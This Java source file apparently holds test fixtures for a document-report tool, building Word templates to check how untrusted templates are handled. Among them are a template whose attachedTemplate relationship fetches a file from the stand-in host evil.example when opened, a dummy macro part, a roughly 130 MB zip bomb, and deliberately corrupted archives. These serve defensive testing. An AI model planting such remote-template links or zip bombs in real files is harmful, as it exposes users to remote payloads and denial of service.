package org.vigie.report;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Collections;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import java.util.zip.ZipOutputStream;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.wp.usermodel.HeaderFooterType;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFStyles;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.CTStyle;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STStyleType;

/** Organisations' own documents, well-meant and not. */
final class OwnTemplates {
    static final String HEADER = "Cabinet Exemple & Associés";
    static final String BODY = "Texte du modèle qui ne doit pas rester";

    private OwnTemplates() {}

    /** A template with a French heading style, a header and a body. */
    static Path plain(Path target) {
        return write(target, document -> {});
    }

    /** A template that would fetch something when opened. */
    static Path reachingOut(Path target) {
        return write(target, document -> document.getPackagePart().addRelationship(
                java.net.URI.create("http://evil.example/attached.dotm"), TargetMode.EXTERNAL,
                "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"));
    }

    /** A template with macros. */
    static Path withMacros(Path target) {
        return write(target, document -> {
            try (OutputStream macros = document.getPackage()
                    .createPart(PackagingURIHelper.createPartName("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject")
                    .getOutputStream()) {
                macros.write(1);
            }
        });
    }

    /** A small archive of a large file. */
    static Path bomb(Path target) throws IOException {
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(target))) {
            zip.setLevel(Deflater.BEST_SPEED);
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            byte[] zeros = new byte[1 << 20];
            for (int megabyte = 0; megabyte < 130; megabyte++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        }
        return target;
    }

    static Path garbage(Path target) throws IOException {
        return Files.writeString(target, "PK\u0003\u0004 not really", StandardCharsets.ISO_8859_1);
    }

    /** The names of a document's parts. */
    static List<String> parts(Path document) throws IOException {
        try (ZipFile zip = new ZipFile(document.toFile())) {
            return zip.stream().map(ZipEntry::getName).toList();
        }
    }

    /** The same document with other bytes in one part. */
    static Path spoilt(Path document, String part, String content, Path target) throws IOException {
        try (ZipFile from = new ZipFile(document.toFile()); ZipOutputStream to = new ZipOutputStream(Files.newOutputStream(target))) {
            for (ZipEntry entry : Collections.list(from.entries())) {
                to.putNextEntry(new ZipEntry(entry.getName()));
                to.write(entry.getName().equals(part)
                        ? content.getBytes(StandardCharsets.UTF_8)
                        : from.getInputStream(entry).readAllBytes());
            }
        }
        return target;
    }

    private interface Extra {
        void add(XWPFDocument document) throws Exception;
    }

    private static Path write(Path target, Extra extra) {
        try (XWPFDocument document = new XWPFDocument(); OutputStream out = Files.newOutputStream(target)) {
            XWPFStyles styles = document.createStyles();
            CTStyle heading = CTStyle.Factory.newInstance();
            heading.setStyleId("Titre1");
            heading.setType(STStyleType.PARAGRAPH);
            heading.addNewName().setVal("heading 1");
            heading.addNewRPr().addNewColor().setVal("00AA00");
            styles.addStyle(new org.apache.poi.xwpf.usermodel.XWPFStyle(heading));
            document.createParagraph().createRun().setText(BODY);
            document.createHeader(HeaderFooterType.DEFAULT).createParagraph().createRun().setText(HEADER);
            extra.add(document);
            document.write(out);
            return target;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
